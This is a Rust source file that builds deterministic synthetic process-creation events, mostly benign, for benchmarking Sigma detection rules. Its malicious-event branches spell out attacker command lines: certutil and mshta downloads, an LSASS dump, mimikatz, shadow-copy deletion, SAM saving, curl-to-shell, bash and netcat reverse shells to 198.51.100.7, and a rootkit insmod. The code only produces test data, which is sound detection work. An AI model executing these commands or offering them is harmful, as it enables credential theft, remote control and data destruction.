//! A deterministic, realistic mix of process-creation events for benchmarks:
//! mostly the benign processes a busy host runs, about 1% attacker tradecraft.
//! Flat JSON objects keyed by Sigma field names, as `vigil rules match` reads.

use serde_json::{Map, Value, json};

/// xorshift64*: deterministic, no dependency.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed.max(1))
    }
    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    pub fn pick<'a>(&mut self, xs: &'a [&'a str]) -> &'a str {
        xs[(self.next() % xs.len() as u64) as usize]
    }
    pub fn hex(&mut self, n: usize) -> String {
        (0..n)
            .map(|_| char::from(b"0123456789abcdef"[(self.next() % 16) as usize]))
            .collect()
    }
}

const WIN_USERS: &[&str] = &[
    "CORP\\alice",
    "CORP\\bob",
    "NT AUTHORITY\\SYSTEM",
    "NT AUTHORITY\\NETWORK SERVICE",
    "CORP\\svc_backup",
];

fn win(
    image: &str,
    cmd: String,
    parent: &str,
    parent_cmd: &str,
    user: &str,
    original: &str,
) -> Value {
    let name = image.rsplit('\\').next().unwrap_or(image);
    json!({
        "Image": image,
        "OriginalFileName": original,
        "CommandLine": cmd,
        "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": user,
        "IntegrityLevel": if user.starts_with("NT AUTHORITY") { "System" } else { "Medium" },
        "ParentImage": parent,
        "ParentCommandLine": parent_cmd,
        "Product": "Microsoft® Windows® Operating System",
        "Company": "Microsoft Corporation",
        "Description": name,
        "Hashes": "SHA256=0f3c7a9b1e2d4c5b6a79881726354a1b2c3d4e5f60718293a4b5c6d7e8f90a1b",
    })
}

pub fn windows_event(r: &mut Rng) -> Value {
    let user = r.pick(WIN_USERS);
    let guid = format!("{{{}-{}-{}}}", r.hex(8), r.hex(4), r.hex(12));
    let n = r.next() % 1000;
    if r.next().is_multiple_of(100) {
        return windows_malicious(r, user);
    }
    match r.next() % 16 {
        0 => win(
            "C:\\Windows\\System32\\svchost.exe",
            format!(
                "C:\\Windows\\system32\\svchost.exe -k {} -p -s {}",
                r.pick(&[
                    "netsvcs",
                    "LocalServiceNetworkRestricted",
                    "DcomLaunch",
                    "UnistackSvcGroup"
                ]),
                r.pick(&["Schedule", "BITS", "wuauserv", "Dnscache"])
            ),
            "C:\\Windows\\System32\\services.exe",
            "C:\\Windows\\system32\\services.exe",
            "NT AUTHORITY\\SYSTEM",
            "svchost.exe",
        ),
        1 => win(
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            format!(
                "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle={n},i,{},{} --lang=en-US --renderer-client-id={}",
                r.hex(16),
                r.hex(16),
                n % 97
            ),
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"",
            user,
            "chrome.exe",
        ),
        2 => win(
            "C:\\Windows\\System32\\conhost.exe",
            "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1".into(),
            "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe",
            user,
            "CONHOST.EXE",
        ),
        3 => win(
            "C:\\Windows\\System32\\RuntimeBroker.exe",
            "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding".into(),
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
            user,
            "RuntimeBroker.exe",
        ),
        4 => win(
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle".into(),
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\Explorer.EXE",
            user,
            "outlook.exe",
        ),
        5 => win(
            "C:\\Windows\\System32\\taskhostw.exe",
            format!(
                "taskhostw.exe {}",
                r.pick(&["KEYROAMING", "Install $(Arg0)", "SYSTEM"])
            ),
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            user,
            "taskhostw.exe",
        ),
        6 => win(
            "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe",
            format!(
                "\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /ua /installsource scheduler /sessionid {guid}"
            ),
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            "NT AUTHORITY\\SYSTEM",
            "MicrosoftEdgeUpdate.exe",
        ),
        7 => win(
            "C:\\Windows\\System32\\backgroundTaskHost.exe",
            format!(
                "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca -Embedding {guid}"
            ),
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
            user,
            "backgroundTaskHost.exe",
        ),
        8 => win(
            "C:\\Windows\\System32\\cmd.exe",
            format!(
                "C:\\Windows\\system32\\cmd.exe /c \"C:\\ProgramData\\Vendor\\agent\\check_{n}.bat\""
            ),
            "C:\\Program Files\\Vendor\\agent.exe",
            "\"C:\\Program Files\\Vendor\\agent.exe\" --service",
            "NT AUTHORITY\\SYSTEM",
            "Cmd.Exe",
        ),
        9 => win(
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            format!("powershell.exe -NoProfile -File C:\\ProgramData\\Scripts\\inventory_{n}.ps1"),
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            "CORP\\svc_backup",
            "PowerShell.EXE",
        ),
        10 => win(
            "C:\\Program Files\\Microsoft VS Code\\Code.exe",
            format!(
                "\"C:\\Program Files\\Microsoft VS Code\\Code.exe\" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --field-trial-handle={n}"
            ),
            "C:\\Program Files\\Microsoft VS Code\\Code.exe",
            "\"C:\\Program Files\\Microsoft VS Code\\Code.exe\"",
            user,
            "electron.exe",
        ),
        11 => win(
            "C:\\Windows\\System32\\SearchProtocolHost.exe",
            format!(
                "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 \"Software\\Microsoft\\Windows Search\""
            ),
            "C:\\Windows\\System32\\SearchIndexer.exe",
            "C:\\Windows\\system32\\SearchIndexer.exe /Embedding",
            "NT AUTHORITY\\SYSTEM",
            "SearchProtocolHost.exe",
        ),
        12 => win(
            "C:\\Windows\\System32\\dllhost.exe",
            format!("C:\\Windows\\system32\\DllHost.exe /Processid:{guid}"),
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
            user,
            "dllhost.exe",
        ),
        13 => win(
            "C:\\Windows\\System32\\git.exe",
            format!("git.exe status --porcelain=v2 -z --untracked-files=all repo{n}"),
            "C:\\Program Files\\Microsoft VS Code\\Code.exe",
            "\"C:\\Program Files\\Microsoft VS Code\\Code.exe\"",
            user,
            "git.exe",
        ),
        14 => win(
            "C:\\Windows\\System32\\msiexec.exe",
            "C:\\Windows\\system32\\msiexec.exe /V".into(),
            "C:\\Windows\\System32\\services.exe",
            "C:\\Windows\\system32\\services.exe",
            "NT AUTHORITY\\SYSTEM",
            "msiexec.exe",
        ),
        _ => win(
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding".into(),
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
            "NT AUTHORITY\\NETWORK SERVICE",
            "Wmiprvse.exe",
        ),
    }
}

fn windows_malicious(r: &mut Rng, user: &str) -> Value {
    let host = format!("http://198.51.100.{}/{}.exe", r.next() % 250, r.hex(6));
    match r.next() % 8 {
        0 => win("C:\\Windows\\System32\\certutil.exe", format!("certutil.exe -urlcache -split -f {host} C:\\Users\\Public\\a.exe"), "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c", user, "CertUtil.exe"),
        1 => win("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA".into(), "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WINWORD.EXE /n doc.docm", user, "PowerShell.EXE"),
        2 => win("C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full".into(), "C:\\Windows\\System32\\cmd.exe", "cmd.exe", user, "RUNDLL32.EXE"),
        3 => win("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet".into(), "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c", user, "VSSADMIN.EXE"),
        4 => win("C:\\Windows\\System32\\reg.exe", "reg.exe save hklm\\sam C:\\Users\\Public\\sam.save".into(), "C:\\Windows\\System32\\cmd.exe", "cmd.exe", user, "reg.exe"),
        5 => win("C:\\Users\\Public\\mimikatz.exe", "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit".into(), "C:\\Windows\\System32\\cmd.exe", "cmd.exe", user, "mimikatz.exe"),
        6 => win("C:\\Windows\\System32\\schtasks.exe", format!("schtasks.exe /create /sc minute /mo 5 /tn Updater /tr \"C:\\Users\\Public\\{}.exe\" /f", r.hex(6)), "C:\\Windows\\System32\\cmd.exe", "cmd.exe", user, "schtasks.exe"),
        _ => win("C:\\Windows\\System32\\mshta.exe", format!("mshta.exe {host}.hta"), "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", user, "MSHTA.EXE"),
    }
}

fn lin(image: &str, cmd: String, parent: &str, parent_cmd: &str, user: &str) -> Value {
    json!({
        "Image": image, "CommandLine": cmd, "CurrentDirectory": "/home/alice", "User": user,
        "ParentImage": parent, "ParentCommandLine": parent_cmd, "LogonId": 1000,
    })
}

pub fn linux_event(r: &mut Rng) -> Value {
    let n = r.next() % 1000;
    if r.next().is_multiple_of(100) {
        return match r.next() % 6 {
            0 => lin(
                "/usr/bin/curl",
                "curl -fsSL http://198.51.100.7/x.sh | sh".into(),
                "/usr/bin/bash",
                "bash",
                "www-data",
            ),
            1 => lin(
                "/usr/bin/bash",
                "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1".into(),
                "/usr/bin/php",
                "php-fpm",
                "www-data",
            ),
            2 => lin(
                "/usr/bin/cat",
                "cat /etc/shadow".into(),
                "/usr/bin/bash",
                "bash",
                "root",
            ),
            3 => lin(
                "/usr/bin/base64",
                "base64 -d /tmp/.x".into(),
                "/usr/bin/bash",
                "bash",
                "root",
            ),
            4 => lin(
                "/usr/bin/nc",
                "nc -e /bin/sh 198.51.100.7 4444".into(),
                "/usr/bin/bash",
                "bash",
                "www-data",
            ),
            _ => lin(
                "/usr/sbin/insmod",
                "insmod /tmp/rk.ko".into(),
                "/usr/bin/bash",
                "bash",
                "root",
            ),
        };
    }
    match r.next() % 10 {
        0 => lin(
            "/usr/bin/ls",
            format!("ls -la /var/log/app{n}"),
            "/usr/bin/bash",
            "-bash",
            "alice",
        ),
        1 => lin(
            "/usr/bin/grep",
            format!("grep -rn TODO src/module{n}"),
            "/usr/bin/bash",
            "-bash",
            "alice",
        ),
        2 => lin(
            "/usr/lib/systemd/systemd-journald",
            "/usr/lib/systemd/systemd-journald".into(),
            "/usr/lib/systemd/systemd",
            "/sbin/init",
            "root",
        ),
        3 => lin(
            "/usr/bin/python3",
            format!("python3 /opt/app/worker.py --queue jobs-{n}"),
            "/usr/bin/supervisord",
            "/usr/bin/python3 /usr/bin/supervisord",
            "app",
        ),
        4 => lin(
            "/usr/sbin/cron",
            "/usr/sbin/CRON -f -P".into(),
            "/usr/sbin/cron",
            "/usr/sbin/cron -f -P",
            "root",
        ),
        5 => lin(
            "/usr/bin/git",
            format!("git fetch origin branch-{n}"),
            "/usr/bin/bash",
            "-bash",
            "alice",
        ),
        6 => lin(
            "/usr/bin/sed",
            format!("sed -i s/a/b/ /tmp/file{n}"),
            "/usr/bin/bash",
            "bash ./build.sh",
            "alice",
        ),
        7 => lin(
            "/usr/bin/ps",
            "ps aux".into(),
            "/usr/bin/bash",
            "-bash",
            "alice",
        ),
        8 => lin(
            "/usr/sbin/sshd",
            "sshd: alice [priv]".into(),
            "/usr/sbin/sshd",
            "sshd: /usr/sbin/sshd -D [listener]",
            "root",
        ),
        _ => lin(
            "/usr/bin/node",
            format!("node /srv/web/server.js --port {}", 3000 + n),
            "/usr/bin/bash",
            "npm start",
            "app",
        ),
    }
}

/// `n` events from `gen`, as JSON objects.
pub fn generate(n: usize, seed: u64, gen_one: fn(&mut Rng) -> Value) -> Vec<Map<String, Value>> {
    let mut r = Rng::new(seed);
    (0..n)
        .filter_map(|_| match gen_one(&mut r) {
            Value::Object(m) => Some(m),
            _ => None,
        })
        .collect()
}
